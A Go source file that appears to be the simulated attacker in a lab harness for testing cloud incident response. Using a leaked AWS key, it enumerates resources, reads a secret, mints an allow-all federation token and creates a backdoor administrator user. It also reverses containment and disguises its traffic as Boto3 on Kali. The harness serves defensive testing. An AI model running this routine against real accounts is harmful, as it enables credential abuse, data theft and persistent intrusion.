package labaws

import (
	"context"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"stanch/internal/secret"
)

// AttackerAddress is the documentation address that an Attacker calls from.
const AttackerAddress = "203.0.113.66"

const attackerAgent = "Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 Kali"

// AttackerOptions say what the attacker has and does beside enumerating.
type AttackerOptions struct {
	Endpoint string
	Key      Key
	Region   string // empty means us-east-1
	Regions  []string
	SourceIP string        // empty means AttackerAddress
	Agent    string        // user agent, empty means one of Boto3 on Kali
	Every    time.Duration // pause between rounds, zero means 500 ms
	Secret   string        // name of the secret to read, empty means SecretName of Seed

	// Mint makes a GetFederationToken session and goes on with it.
	Mint bool
	// Backdoor makes a user with administrator's rights and a key for it.
	Backdoor bool
	// FightBack removes policies and boundaries that appeared, and makes the key
	// Active again, with whichever credential still works.
	FightBack bool
}

// Attacker uses a leaked key through real clients. Run it in a goroutine; Report
// may be called at any time.
type Attacker struct {
	o    AttackerOptions
	http *http.Client

	mu     sync.Mutex
	report AttackReport
	loot   []*loot

	userName string
	baseline map[string]bool
	known    bool
}

// loot is a credential in the attacker's hands.
type loot struct {
	what string // "leaked", "federated", "backdoor"
	key  Key
	dead bool // the last call with it was refused as invalid
}

// Tally counts calls. GetCallerIdentity is left out of it: it works under every
// deny and gives nothing.
type Tally struct {
	Allowed      int
	Refused      int
	Errors       int // throttled, failed or lost: neither allowed nor refused
	FirstAllowed time.Time
	FirstRefused time.Time
	LastAllowed  time.Time
	RefusedSince int // refused calls in a row since the last allowed one
}

// AttackReport is what an Attacker achieved.
type AttackReport struct {
	Tally
	Rounds       int
	ByCredential map[string]Tally // by key id
	ByOperation  map[string]Tally // "iam:ListUsers"
	Identified   time.Time        // last successful GetCallerIdentity with any credential
	Created      []string         // "user support-tools", "key AKIA...", "session ASIA..."
	Undone       []string         // containment that was taken back, in order
}

// NewAttacker prepares an attacker; nothing is sent before Run.
func NewAttacker(o AttackerOptions) *Attacker {
	if o.Region == "" {
		o.Region = GlobalRegion
	}
	if len(o.Regions) == 0 {
		o.Regions = []string{o.Region}
	}
	if o.SourceIP == "" {
		o.SourceIP = AttackerAddress
	}
	if o.Agent == "" {
		o.Agent = attackerAgent
	}
	if o.Every == 0 {
		o.Every = 500 * time.Millisecond
	}
	if o.Secret == "" {
		o.Secret = "prod/billing/db"
	}
	return &Attacker{
		o:      o,
		http:   &http.Client{Transport: disguise{o.SourceIP, o.Agent, &http.Transport{MaxIdleConnsPerHost: 8}}, Timeout: 10 * time.Second},
		loot:   []*loot{{what: "leaked", key: o.Key}},
		report: AttackReport{ByCredential: map[string]Tally{}, ByOperation: map[string]Tally{}},
	}
}

// disguise sets the source address and the user agent of every request.
type disguise struct {
	ip, agent string
	next      *http.Transport
}

func (d disguise) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set(SourceIPHeader, d.ip)
	r.Header.Set("User-Agent", d.agent)
	return plainBodies{d.next}.RoundTrip(r)
}

// plainBodies keeps net/http from cutting connections under the SDK's feet
// (plainBodies of responder/act/aws says how).
type plainBodies struct{ next http.RoundTripper }

func (p plainBodies) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Body != nil && r.Body != http.NoBody {
		r.Body = struct{ io.ReadCloser }{r.Body}
	}
	return p.next.RoundTrip(r)
}

// CloseIdleConnections lets http.Client.CloseIdleConnections reach the transport.
func (d disguise) CloseIdleConnections() { d.next.CloseIdleConnections() }

// Run attacks until ctx ends. It returns after the call in flight.
func (a *Attacker) Run(ctx context.Context) {
	defer a.http.CloseIdleConnections()
	for ctx.Err() == nil {
		a.round(ctx)
		if !pause(ctx, a.o.Every) {
			return
		}
	}
}

// Report is a copy of what was achieved so far.
func (a *Attacker) Report() AttackReport {
	a.mu.Lock()
	defer a.mu.Unlock()
	r := a.report
	r.ByCredential, r.ByOperation = map[string]Tally{}, map[string]Tally{}
	for k, v := range a.report.ByCredential {
		r.ByCredential[k] = v
	}
	for k, v := range a.report.ByOperation {
		r.ByOperation[k] = v
	}
	r.Created, r.Undone = slices.Clone(r.Created), slices.Clone(r.Undone)
	return r
}

func (a *Attacker) round(ctx context.Context) {
	a.mu.Lock()
	a.report.Rounds++
	a.mu.Unlock()
	if a.o.FightBack {
		for _, l := range slices.Clone(a.loot) {
			if a.fightBack(ctx, l) {
				break
			}
		}
	}
	for _, l := range slices.Clone(a.loot) {
		a.enumerate(ctx, l)
	}
	if a.o.Mint {
		a.mint(ctx)
	}
	if a.o.Backdoor {
		a.backdoor(ctx)
	}
}

// clients of one credential, without retries: a refusal is looked at, not hidden.
func (a *Attacker) config(l *loot) aws.Config {
	return aws.Config{
		Region: a.o.Region, BaseEndpoint: aws.String(a.o.Endpoint), HTTPClient: a.http, Credentials: provider(l.key),
		Retryer: func() aws.Retryer { return aws.NopRetryer{} },
	}
}

func provider(k Key) aws.CredentialsProvider {
	return aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
		return aws.Credentials{AccessKeyID: k.ID, SecretAccessKey: k.Secret.Reveal(), SessionToken: k.Token.Reveal()}, nil
	})
}

func (a *Attacker) iam(l *loot) *iam.Client { return iam.NewFromConfig(a.config(l)) }
func (a *Attacker) sts(l *loot) *sts.Client { return sts.NewFromConfig(a.config(l)) }

func (a *Attacker) enumerate(ctx context.Context, l *loot) {
	who, err := a.sts(l).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
	if err == nil {
		a.mu.Lock()
		a.report.Identified = time.Now()
		a.mu.Unlock()
		arn := aws.ToString(who.Arn)
		if l.what == "leaked" && a.userName == "" {
			a.userName = arn[strings.LastIndexByte(arn, '/')+1:]
		}
	}
	l.dead = refusedAs(err) == "invalid"
	if a.o.FightBack && !a.known && a.userName != "" && l.what == "leaked" {
		seen, ok := a.look(ctx, l)
		if ok {
			a.baseline, a.known = seen, true
		}
	}
	_, err = a.iam(l).ListUsers(ctx, &iam.ListUsersInput{})
	a.count(l, "iam:ListUsers", err)
	buckets := s3.NewFromConfig(a.config(l), func(o *s3.Options) { o.UsePathStyle = true })
	_, err = buckets.ListBuckets(ctx, &s3.ListBucketsInput{})
	a.count(l, "s3:ListBuckets", err)
	for _, region := range a.o.Regions {
		err = a.signed(ctx, l, "ec2", region, "", "Action=DescribeInstances&Version=2016-11-15")
		a.count(l, "ec2:DescribeInstances", err)
	}
	err = a.signed(ctx, l, "secretsmanager", a.o.Region, "secretsmanager.GetSecretValue", `{"SecretId":"`+a.o.Secret+`"}`)
	a.count(l, "secretsmanager:GetSecretValue", err)
}

// look lists what holds the leaked user down: names of policies and the boundary.
func (a *Attacker) look(ctx context.Context, l *loot) (map[string]bool, bool) {
	seen := map[string]bool{}
	user := aws.String(a.userName)
	inline, err := a.iam(l).ListUserPolicies(ctx, &iam.ListUserPoliciesInput{UserName: user})
	a.count(l, "iam:ListUserPolicies", err)
	if err != nil {
		return nil, false
	}
	for _, n := range inline.PolicyNames {
		seen["policy "+n] = true
	}
	attached, err := a.iam(l).ListAttachedUserPolicies(ctx, &iam.ListAttachedUserPoliciesInput{UserName: user})
	a.count(l, "iam:ListAttachedUserPolicies", err)
	if err != nil {
		return nil, false
	}
	for _, p := range attached.AttachedPolicies {
		seen["attached "+aws.ToString(p.PolicyArn)] = true
	}
	u, err := a.iam(l).GetUser(ctx, &iam.GetUserInput{UserName: user})
	a.count(l, "iam:GetUser", err)
	if err == nil && u.User.PermissionsBoundary != nil {
		seen["boundary "+aws.ToString(u.User.PermissionsBoundary.PermissionsBoundaryArn)] = true
	}
	return seen, true
}

// fightBack takes containment back; true when l could do it all.
func (a *Attacker) fightBack(ctx context.Context, l *loot) bool {
	if !a.known || l.dead {
		return false
	}
	seen, ok := a.look(ctx, l)
	if !ok {
		return false
	}
	user := aws.String(a.userName)
	client := a.iam(l)
	for what := range seen {
		if a.baseline[what] {
			continue
		}
		kind, name, _ := strings.Cut(what, " ")
		var err error
		switch kind {
		case "policy":
			_, err = client.DeleteUserPolicy(ctx, &iam.DeleteUserPolicyInput{UserName: user, PolicyName: &name})
			a.count(l, "iam:DeleteUserPolicy", err)
		case "attached":
			_, err = client.DetachUserPolicy(ctx, &iam.DetachUserPolicyInput{UserName: user, PolicyArn: &name})
			a.count(l, "iam:DetachUserPolicy", err)
		case "boundary":
			_, err = client.DeleteUserPermissionsBoundary(ctx, &iam.DeleteUserPermissionsBoundaryInput{UserName: user})
			a.count(l, "iam:DeleteUserPermissionsBoundary", err)
		}
		if err != nil {
			ok = false
			continue
		}
		a.note(&a.report.Undone, what)
	}
	keys, err := client.ListAccessKeys(ctx, &iam.ListAccessKeysInput{UserName: user})
	a.count(l, "iam:ListAccessKeys", err)
	if err != nil {
		return false
	}
	for _, k := range keys.AccessKeyMetadata {
		if aws.ToString(k.AccessKeyId) != a.o.Key.ID || k.Status != iamtypes.StatusTypeInactive {
			continue
		}
		_, err = client.UpdateAccessKey(ctx, &iam.UpdateAccessKeyInput{UserName: user, AccessKeyId: k.AccessKeyId, Status: iamtypes.StatusTypeActive})
		a.count(l, "iam:UpdateAccessKey", err)
		if err != nil {
			return false
		}
		a.note(&a.report.Undone, "key "+a.o.Key.ID)
	}
	return ok
}

func (a *Attacker) note(list *[]string, what string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	*list = append(*list, what)
}

func (a *Attacker) has(what string) bool {
	return slices.ContainsFunc(a.loot, func(l *loot) bool { return l.what == what && !l.dead })
}

const allowEverything = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`

func (a *Attacker) mint(ctx context.Context) {
	l := a.loot[0]
	if l.dead || a.has("federated") {
		return
	}
	out, err := a.sts(l).GetFederationToken(ctx, &sts.GetFederationTokenInput{
		Name: aws.String("backup-job"), Policy: aws.String(allowEverything), DurationSeconds: aws.Int32(129600),
	})
	a.count(l, "sts:GetFederationToken", err)
	if err != nil {
		return
	}
	k := Key{ID: aws.ToString(out.Credentials.AccessKeyId), Secret: secret.New(aws.ToString(out.Credentials.SecretAccessKey)),
		Token: secret.New(aws.ToString(out.Credentials.SessionToken))}
	a.loot = append(a.loot, &loot{what: "federated", key: k})
	a.note(&a.report.Created, "session "+k.ID)
}

const backdoorUser = "support-tools"

func (a *Attacker) backdoor(ctx context.Context) {
	l := a.loot[0]
	if l.dead || a.has("backdoor") {
		return
	}
	client, name := a.iam(l), aws.String(backdoorUser)
	_, err := client.CreateUser(ctx, &iam.CreateUserInput{UserName: name})
	a.count(l, "iam:CreateUser", err)
	var exists *iamtypes.EntityAlreadyExistsException
	if err != nil && !errors.As(err, &exists) {
		return
	}
	if err == nil {
		a.note(&a.report.Created, "user "+backdoorUser)
	}
	_, err = client.AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: name, PolicyArn: aws.String(adminARN)})
	a.count(l, "iam:AttachUserPolicy", err)
	if err != nil {
		return
	}
	out, err := client.CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: name})
	a.count(l, "iam:CreateAccessKey", err)
	if err != nil {
		return
	}
	k := Key{ID: aws.ToString(out.AccessKey.AccessKeyId), Secret: secret.New(aws.ToString(out.AccessKey.SecretAccessKey))}
	a.loot = append(a.loot, &loot{what: "backdoor", key: k})
	a.note(&a.report.Created, "key "+k.ID)
}

// refusedAs classes an error: "" for none, "denied", "invalid" (the credential
// itself) or "other" (throttled, failed, lost).
func refusedAs(err error) string {
	if err == nil {
		return ""
	}
	var api smithy.APIError
	if !errors.As(err, &api) {
		return "other"
	}
	switch api.ErrorCode() {
	case "AccessDenied", "AccessDeniedException", "UnauthorizedOperation":
		return "denied"
	case "InvalidClientTokenId", "UnrecognizedClientException", "InvalidAccessKeyId", "AuthFailure", "ExpiredToken",
		"ExpiredTokenException", "SignatureDoesNotMatch":
		return "invalid"
	}
	return "other"
}

func (a *Attacker) count(l *loot, operation string, err error) {
	if errors.Is(err, context.Canceled) {
		return
	}
	now, class := time.Now(), refusedAs(err)
	a.mu.Lock()
	defer a.mu.Unlock()
	a.report.add(class, now)
	t := a.report.ByCredential[l.key.ID]
	t.add(class, now)
	a.report.ByCredential[l.key.ID] = t
	t = a.report.ByOperation[operation]
	t.add(class, now)
	a.report.ByOperation[operation] = t
}

func (t *Tally) add(class string, now time.Time) {
	switch class {
	case "":
		t.Allowed++
		t.LastAllowed, t.RefusedSince = now, 0
		if t.FirstAllowed.IsZero() {
			t.FirstAllowed = now
		}
	case "other":
		t.Errors++
	default:
		t.Refused++
		t.RefusedSince++
		if t.FirstRefused.IsZero() {
			t.FirstRefused = now
		}
	}
}
